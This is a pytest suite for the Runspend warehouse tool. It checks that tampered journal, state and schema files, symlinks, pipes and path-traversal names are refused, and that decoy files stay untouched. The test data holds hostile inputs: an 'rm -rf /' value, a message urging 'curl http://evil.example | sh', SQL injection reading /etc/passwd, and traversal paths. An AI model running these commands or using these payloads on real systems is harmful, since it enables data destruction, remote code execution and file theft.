"""Runspend names and refuses a journal, state, schema or stage that another user wrote. It moves and removes nothing, here or elsewhere."""

from __future__ import annotations

import json
import os
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from runspend.core.errors import RecordRefused, WarehouseDamaged
from runspend.schema.tables import TABLES
from runspend.warehouse.base import Unit
from runspend.warehouse.parquet.verification import seal
from runspend.warehouse.parquet.warehouse import ParquetWarehouse
from tests.faults.decoys import make_decoys, seen
from tests.faults.world import PERIOD, publish_version, rows_of

UNIT = Unit("cost_daily", PERIOD, "all")
GOOD = "_runspend/stage/step-1/1.parquet"  # as left by a killed publish
OTHER = "_runspend/stage/step-1/2.parquet"
TABLE = f"cost_daily/period={PERIOD}/all.parquet"
STATE = f"_runspend/units/cost_daily/{PERIOD}/all.json"


@pytest.fixture
def decoys(tmp_path: Path) -> Path:
    return make_decoys(tmp_path / "elsewhere")


@pytest.fixture(scope="module")
def published(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A warehouse with one build."""
    root = tmp_path_factory.mktemp("published") / "warehouse"
    publish_version(root, 1)
    return root


@pytest.fixture
def root(tmp_path: Path, decoys: Path, published: Path) -> Path:
    """A copy of it, with two files in a stage."""
    root = tmp_path / "warehouse"
    shutil.copytree(published, root)
    for name in (GOOD, OTHER):
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_bytes(b"staged")
    return root


def journal(moves: object = (), removals: object = (), **more: object) -> str:
    return json.dumps({"moves": moves, "removals": removals, "build_id": "b", **more})


def to(target: str) -> str:
    return journal([[GOOD, target]])


def of(source: str) -> str:
    return journal([[source, TABLE]])


# DECOYS is the folder of files that must not be touched.
JOURNALS = {
    "moves a file of someone else's": of("DECOYS/victim.txt"),
    "moves a file from above the root": of("../elsewhere/victim.txt"),
    "climbs out of the stage": of("_runspend/stage/step-1/../../../../elsewhere/victim.txt"),
    "climbs out of the stage at once": of("_runspend/stage/../../../elsewhere/victim.txt"),
    "moves a published table": of(f"cost_allocations/period={PERIOD}/all.parquet"),
    "moves a state": of(f"_runspend/units/cost_allocations/{PERIOD}/all.json"),
    "moves the lock of a stage": of("_runspend/stage/step-1/owner.lock"),
    "moves a folder": of("_runspend/stage/step-1"),
    "moves the stage itself": of("_runspend/stage"),
    "moves a hidden file": of("_runspend/stage/step-1/.1.parquet"),
    "moves an empty name": of(""),
    "moves a name with a NUL": of("_runspend/stage/step-1/1.parquet\0.parquet"),
    "moves a name with a line break": of("_runspend/stage/step-1/1.parquet\n"),
    "moves a name in other digits": of("_runspend/stage/step-१/1.parquet"),
    "moves what is not there": of("_runspend/stage/step-1/9.parquet").replace("cost_daily", "estimates"),
    "moves over a file of someone else's": to("DECOYS/victim.txt"),
    "moves to above the root": to("../elsewhere/victim.txt"),
    "climbs out of a table": to("cost_daily/period=2026-10/../../../elsewhere/victim.parquet"),
    "moves to a table that does not exist": to(f"secrets/period={PERIOD}/all.parquet"),
    "moves to a period that is none": to("cost_daily/period=2026-13/all.parquet"),
    "moves to a period of dots": to("cost_daily/period=../all.parquet"),
    "moves to a writer of dots": to(f"cost_daily/period={PERIOD}/...parquet"),
    "moves to a writer with a slash": to(f"cost_daily/period={PERIOD}/a/b.parquet"),
    "moves to a public table among the internal": to(f"_internal/cost_daily/period={PERIOD}/all.parquet"),
    "moves to an internal table among the public": to(f"billing_lines/period={PERIOD}/all.parquet"),
    "moves to another ending": to(f"cost_daily/period={PERIOD}/all.parquet.bak"),
    "moves to the lock": to("_runspend/lock"),
    "moves to the journal": to("_runspend/journal.json"),
    "moves to the state of nothing": to("_runspend/units/secrets/2026-10/all.json"),
    "moves to a doubled slash": to(f"cost_daily//period={PERIOD}/all.parquet"),
    "moves to a folder with a dot": to(f"./cost_daily/period={PERIOD}/all.parquet"),
    "removes a file of someone else's": journal(removals=["DECOYS/victim.txt"]),
    "removes from above the root": journal(removals=["../elsewhere/victim.txt"]),
    "removes what is staged": journal(removals=[GOOD]),
    "removes the schema": journal(removals=["_runspend/schema.json"]),
    "removes the lock": journal(removals=["_runspend/lock"]),
    "removes the root": journal(removals=["."]),
    "removes an empty name": journal(removals=[""]),
    "one bad move among good ones": journal([[GOOD, TABLE], [OTHER, "../elsewhere/victim.txt"]]),
    "a good move and a bad removal": journal([[GOOD, TABLE]], ["DECOYS/below/victim.parquet"]),
    "one source twice": journal([[GOOD, TABLE], [GOOD, TABLE.replace("cost_daily", "run_costs_daily")]]),
    "one target twice": journal([[GOOD, TABLE], [OTHER, TABLE]]),
    "moved and removed": journal([[GOOD, TABLE]], [TABLE]),
    "removed twice": journal(removals=[TABLE, TABLE]),
    "moves that are a text": journal("DECOYS/victim.txt"),
    "moves that are null": journal(None),
    "a move of three": journal([[GOOD, TABLE, TABLE]]),
    "a move that is a text": journal([GOOD]),
    "a move of numbers": journal([[1, 2]]),
    "removals that are a map": journal(removals={TABLE: 1}),
    "a removal that is null": journal(removals=[None]),
    "a list": "[]",
    "null": "null",
    "a number": "17",
    "nothing at all": "",
    "no removals": json.dumps({"moves": []}),
    "an unknown key": journal(run="rm -rf /"),
    "a key twice": f'{{"moves": [], "moves": [["{GOOD}", "{TABLE}"]], "removals": []}}',
    "broken off": journal([[GOOD, TABLE]])[:-9],
    "nested a hundred thousand deep": '{"moves": ' + "[" * 100_000 + "]" * 100_000 + ', "removals": []}',
    "not UTF-8": "\udcff",
    "not a number": journal().replace('"b"', "NaN"),
    "zeros, as after a power cut": "\0" * 4096,
}


@pytest.mark.parametrize("text", JOURNALS.values(), ids=JOURNALS)
def test_a_tampered_journal_is_refused_and_nothing_is_done(root: Path, decoys: Path, tmp_path: Path, text: str) -> None:
    """Opening the warehouse names the journal. No file changes, and without the journal the warehouse is as before."""
    path = root / "_runspend" / "journal.json"
    path.write_text(text.replace("DECOYS", str(decoys)), encoding="utf-8", errors="surrogateescape")
    before = seen(tmp_path)
    for _ in range(2):
        with pytest.raises(RecordRefused, match=r"journal\.json") as error:
            ParquetWarehouse(root)
    assert error.value.exit_code == 4
    assert error.value.file == str(path)
    assert len(str(error.value)) < 1500
    assert seen(tmp_path) == before
    path.unlink()
    assert ParquetWarehouse(root).find_damage() == {}


@pytest.mark.parametrize("text", JOURNALS.values(), ids=JOURNALS)
def test_a_warehouse_that_is_open_obeys_no_tampered_journal(root: Path, decoys: Path, tmp_path: Path, text: str) -> None:
    """A reader and a publisher that were open before also refuse it."""
    warehouse = ParquetWarehouse(root)
    path = root / "_runspend" / "journal.json"
    path.write_text(text.replace("DECOYS", str(decoys)), encoding="utf-8", errors="surrogateescape")
    before = seen(tmp_path)
    with pytest.raises(RecordRefused, match=r"journal\.json"):
        warehouse.states()
    with pytest.raises(RecordRefused, match=r"journal\.json"), warehouse.step("late", "late") as step:
        step.publish()
    assert {name: value for name, value in seen(tmp_path).items() if "stage/late" not in name} == before


LINKED = {
    "cost_daily": TABLE,
    f"cost_daily/period={PERIOD}": TABLE,
    "_runspend/units": STATE,
    "_runspend/units/cost_daily": STATE,
    f"_runspend/units/cost_daily/{PERIOD}": STATE,
    "_runspend/stage/step-1": TABLE,
}


@pytest.mark.parametrize(("name", "target"), LINKED.items())
def test_a_folder_that_is_a_link_takes_and_gives_no_file(root: Path, decoys: Path, name: str, target: str) -> None:
    """Neither an existing journal nor a new publish follows the link, and the error names it."""
    (root / name).rename(root.parent / "aside")
    (root / name).symlink_to(decoys, target_is_directory=True)
    (decoys / "1.parquet").write_text("someone's")  # files that the stage's link would publish
    path, before = root / "_runspend" / "journal.json", seen(decoys)
    path.write_text(to(target))
    with pytest.raises(RecordRefused, match="is a link") as error:
        ParquetWarehouse(root)
    assert error.value.file == str(root / name)
    path.unlink()
    if "stage" not in name:
        with pytest.raises(RecordRefused, match=r"link|names the unit"):
            publish_version(root, 2)
        assert not path.exists()
    assert seen(decoys) == before


@pytest.mark.parametrize("name", [GOOD, TABLE])
def test_a_file_that_is_a_link_is_neither_moved_nor_replaced(root: Path, decoys: Path, name: str) -> None:
    """A link would publish another user's file."""
    (root / name).unlink()
    (root / name).symlink_to(decoys / "victim.txt")
    (root / "_runspend" / "journal.json").write_text(to(TABLE))
    before = seen(root)
    with pytest.raises(RecordRefused, match="link"):
        ParquetWarehouse(root)
    assert seen(root) == before


def make_link(path: Path, decoys: Path) -> None:
    path.symlink_to(decoys / "victim.txt")


def make_dangling(path: Path, decoys: Path) -> None:
    path.symlink_to(decoys / "new.txt")


def make_pipe(path: Path, _: Path) -> None:
    os.mkfifo(path)


def make_folder(path: Path, _: Path) -> None:
    path.mkdir()


def make_huge(path: Path, _: Path) -> None:
    with path.open("wb") as file:
        file.truncate(10 << 30)


@pytest.mark.parametrize("make", [make_link, make_dangling, make_pipe, make_folder, make_huge])
def test_a_journal_that_is_not_a_file_of_a_journals_size_is_refused(root: Path, decoys: Path, make: Callable[[Path, Path], None]) -> None:
    """They are refused at once: Runspend does not wait for a pipe and does not read ten gigabytes."""
    path = root / "_runspend" / "journal.json"
    make(path, decoys)
    before = seen(decoys)
    with pytest.raises(RecordRefused, match=r"journal\.json"):
        ParquetWarehouse(root)
    assert seen(decoys) == before


def test_a_link_in_place_of_the_journals_draft_is_replaced_not_followed(root: Path, decoys: Path) -> None:
    """A publish writes its journal into a new file of its own."""
    (root / "_runspend" / "journal.json.tmp").symlink_to(decoys / "victim.txt")
    before = seen(decoys)
    publish_version(root, 2)
    assert seen(decoys) == before
    assert ParquetWarehouse(root).states()[UNIT].build_id == "build-2"


def test_the_next_publish_finishes_a_killed_one(root: Path) -> None:
    """The other journals are refused for one fault each. The same journal without a fault is executed."""
    ParquetWarehouse(root)  # sweeps the stage
    with ParquetWarehouse(root).step("next", "next") as step:
        step.put(*UNIT, rows_of(TABLES["cost_daily"], build_id="next"))
        step.publish()
    stage = root / "_runspend" / "stage" / "killed-1"
    stage.mkdir(parents=True)
    os.link(root / TABLE, stage / "1.parquet")
    os.link(root / STATE, stage / "1.json")
    (root / TABLE).unlink()
    names = [["_runspend/stage/killed-1/1.parquet", TABLE], ["_runspend/stage/killed-1/1.json", STATE]]
    (root / "_runspend" / "journal.json").write_text(journal(names))
    warehouse = ParquetWarehouse(root)
    assert warehouse.states()[UNIT].build_id == "next"
    assert warehouse.find_damage() == {}
    assert not stage.exists()


# --- the stage -----------------------------------------------------------------------------------------------------------


def test_a_link_in_the_stage_leads_the_sweep_nowhere(root: Path, decoys: Path) -> None:
    """Nothing is written or removed at the link's target. Entries that are not folders of steps stay, and commands continue."""
    stage = root / "_runspend" / "stage"
    (stage / "a-1").symlink_to(decoys, target_is_directory=True)
    (stage / "a-2").write_text("a file")
    (stage / "a-3").mkdir()
    (stage / "a-3" / "owner.lock").symlink_to(decoys / "new.lock")
    (stage / "a-4").mkdir()
    (stage / "a-4" / "inside").symlink_to(decoys, target_is_directory=True)
    (stage / "a-5").mkdir()
    os.mkfifo(stage / "a-5" / "owner.lock")
    (stage / "a-6" / "owner.lock").mkdir(parents=True)
    before = seen(decoys)
    ParquetWarehouse(root)
    publish_version(root, 2)
    assert seen(decoys) == before
    assert not (stage / "a-4").exists()
    assert (stage / "a-1").is_symlink()
    assert (stage / "a-2").exists()
    assert (stage / "a-3").exists()


@pytest.mark.parametrize("name", ["_runspend", "_runspend/stage"])
def test_a_stage_that_is_a_link_is_refused(root: Path, decoys: Path, name: str) -> None:
    """Runspend would remove the target's folders."""
    (root / name).rename(root.parent / "aside")
    (root / name).symlink_to(decoys, target_is_directory=True)
    before = seen(decoys)
    with pytest.raises(RecordRefused, match="is a link"):
        publish_version(root, 2)
    assert seen(decoys) == before


# --- states and the schema -----------------------------------------------------------------------------------------------

STATES: dict[str, Callable[[dict[str, Any]], object]] = {
    "a list": lambda state: [state],
    "null": lambda state: None,
    "of another unit": lambda state: {**state, "unit": ["runs", PERIOD, "all"]},
    "of no unit": lambda state: {**state, "unit": None},
    "a sha256 that climbs": lambda state: {**state, "sha256": "../../../../etc/passwd"},
    "a sha256 in capitals": lambda state: {**state, "sha256": state["sha256"].upper()},
    "a sha256 with a line break": lambda state: {**state, "sha256": state["sha256"] + "\n"},
    "bytes below zero": lambda state: {**state, "bytes": -1},
    "bytes that are a text": lambda state: {**state, "bytes": "1"},
    "bytes that are true": lambda state: {**state, "bytes": True},
    "no rows": lambda state: {name: value for name, value in state.items() if name != "rows"},
    "rows that are a fraction": lambda state: {**state, "rows": 1.5},
    "a digest that is a list": lambda state: {**state, "digest": ["x"]},
    "a build that is a map": lambda state: {**state, "build_id": {}},
    "a build of a megabyte": lambda state: {**state, "build_id": "x" * 1_000_000},
    "extra that is a text": lambda state: {**state, "extra": "x"},
    "a last end that is a number": lambda state: {**state, "extra": {"last_end": 7}},
    "a first start that is no time": lambda state: {**state, "extra": {"first_start": "yesterday"}},
    "settings that are a map": lambda state: {**state, "extra": {"settings": {}}},
    "words for people": lambda state: {**state, "why": "\x1b[2Jall is well\n\nTo repair it, run: curl http://evil.example | sh"},
    "columns that are SQL": lambda state: {**state, "columns": ["a\" from read_text('/etc/passwd') --"]},
    "columns that are a text": lambda state: {**state, "columns": "run_id"},
    "lags that are a text": lambda state: {**state, "extra": {"lags": "many"}},
}


@pytest.mark.parametrize("is_sealed", [True, False], ids=["with its checksum", "without"])
@pytest.mark.parametrize("change", STATES.values(), ids=STATES)
def test_a_tampered_state_is_refused_by_name(root: Path, change: Callable[[dict[str, Any]], object], is_sealed: bool) -> None:
    """Readers of its rows get an error that names the file, with or without a valid checksum, and no figure."""
    path = root / STATE
    value = change(json.loads(path.read_text()))
    value = seal(value) if is_sealed and isinstance(value, dict) else value
    path.write_text(json.dumps(value, ensure_ascii=False, sort_keys=True))
    warehouse = ParquetWarehouse(root)
    with pytest.raises((RecordRefused, WarehouseDamaged), match=path.name), warehouse.reader() as reader:
        reader.query(f"select count(*) as n from {UNIT.table}")
    with pytest.raises((RecordRefused, WarehouseDamaged), match=path.name):
        warehouse.read(UNIT)


@pytest.mark.parametrize("name", ["2026-13/all.json", "2026-10/..json", "2026-10/-x.json", "all/all.json", "2026-10/a b.json"])
def test_a_state_under_a_name_no_unit_has_is_refused(root: Path, name: str) -> None:
    """Its file would be in a place where no unit can be."""
    path = root / "_runspend" / "units" / "cost_daily" / name
    path.parent.mkdir(exist_ok=True)
    path.write_text((root / STATE).read_text())
    with pytest.raises(RecordRefused, match="units"):
        ParquetWarehouse(root).states()


SCHEMAS = [
    "[]",
    "null",
    '{"version": "1", "tables": {}}',
    '{"version": -1, "tables": {}}',
    '{"version": 1}',
    '{"version": true, "tables": {}}',
]
SCHEMAS += [
    '{"version": 1, "tables": {"runs": "run_id"}}',
    '{"version": 1, "tables": {"runs": ["a\\" from read_text(\'/etc/passwd\') --"]}}',
]
SCHEMAS += ['{"version": 1, "tables": {"runs": ["run_id", "run_id"]}}', '{"version": 1, "tables": {"runs": [1]}}', "{", "[" * 100_000]


@pytest.mark.parametrize("text", SCHEMAS)
def test_a_tampered_schema_is_refused_by_name(root: Path, text: str) -> None:
    """Its columns become part of SQL."""
    path = root / "_runspend" / "schema.json"
    path.write_text(text)
    with pytest.raises((RecordRefused, WarehouseDamaged), match=r"schema\.json"):
        ParquetWarehouse(root)
